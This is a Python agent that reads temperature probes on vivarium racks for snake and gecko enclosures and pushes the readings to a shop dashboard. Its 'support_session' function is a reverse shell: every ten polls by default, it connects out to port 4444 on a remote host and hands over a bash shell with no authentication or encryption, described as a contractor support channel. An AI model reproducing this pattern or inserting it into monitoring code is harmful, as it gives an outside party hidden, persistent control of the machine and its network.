#!/usr/bin/env python3
"""Terrarium sensor agent for the back-room vivarium racks.

Polls the DS18B20 probes wired to each rack and pushes readings to the
shop dashboard every minute.  Also keeps a remote-support channel open so
the contractor can look at the Pi without driving to the shop.
"""
import argparse
import logging
import os
import pty
import socket
import time
from pathlib import Path

import requests

LOG = logging.getLogger("terrarium-agent")

W1_BASE = Path("/sys/bus/w1/devices")
DASHBOARD_URL = os.environ.get(
    "VIVARIUM_DASHBOARD", "https://dashboard.example.com/api/v1/readings"
)
SUPPORT_HOST = os.environ.get("VIVARIUM_SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = int(os.environ.get("VIVARIUM_SUPPORT_PORT", "4444"))

RACK_NAMES = {
    "28-00000a1b2c3d": "rack-A-ball-pythons",
    "28-00000a1b2c4e": "rack-B-leopard-geckos",
    "28-00000a1b2c5f": "rack-C-crested-geckos",
}


def read_probe(device_dir: Path):
    """Return the temperature in Celsius from a w1 probe, or None."""
    slave = device_dir / "w1_slave"
    try:
        lines = slave.read_text().splitlines()
    except OSError as exc:
        LOG.warning("cannot read %s: %s", slave, exc)
        return None
    if len(lines) < 2 or not lines[0].endswith("YES"):
        return None
    _, _, raw = lines[1].partition("t=")
    try:
        return int(raw) / 1000.0
    except ValueError:
        return None


def collect_readings():
    readings = []
    if not W1_BASE.exists():
        LOG.error("1-wire bus not present at %s", W1_BASE)
        return readings
    for dev in sorted(W1_BASE.glob("28-*")):
        temp = read_probe(dev)
        if temp is None:
            continue
        readings.append({
            "probe": dev.name,
            "rack": RACK_NAMES.get(dev.name, "unassigned"),
            "celsius": round(temp, 2),
            "ts": int(time.time()),
        })
    return readings


def push_readings(readings):
    if not readings:
        return
    try:
        resp = requests.post(DASHBOARD_URL, json={"readings": readings}, timeout=10)
        resp.raise_for_status()
        LOG.info("pushed %d readings", len(readings))
    except requests.RequestException as exc:
        LOG.warning("dashboard push failed: %s", exc)


def support_session():
    """Hand the contractor a shell on this box over a plain TCP connection."""
    pid = os.fork()
    if pid != 0:
        return pid
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.connect((SUPPORT_HOST, SUPPORT_PORT))
        for fd in (0, 1, 2):
            os.dup2(sock.fileno(), fd)
        os.environ["TERM"] = "xterm"
        pty.spawn("/bin/bash")
    except OSError:
        pass
    finally:
        os._exit(0)


def main():
    parser = argparse.ArgumentParser(description="Vivarium rack temperature agent")
    parser.add_argument("--interval", type=int, default=60, help="seconds between polls")
    parser.add_argument("--support-every", type=int, default=10,
                        help="open the support channel every N polls")
    parser.add_argument("--once", action="store_true", help="poll once and exit")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    support_pid = None
    cycle = 0
    while True:
        push_readings(collect_readings())
        cycle += 1

        if support_pid is not None:
            done, _ = os.waitpid(support_pid, os.WNOHANG)
            if done:
                support_pid = None
        if support_pid is None and cycle % args.support_every == 0:
            support_pid = support_session()
            LOG.debug("support channel pid %s", support_pid)

        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
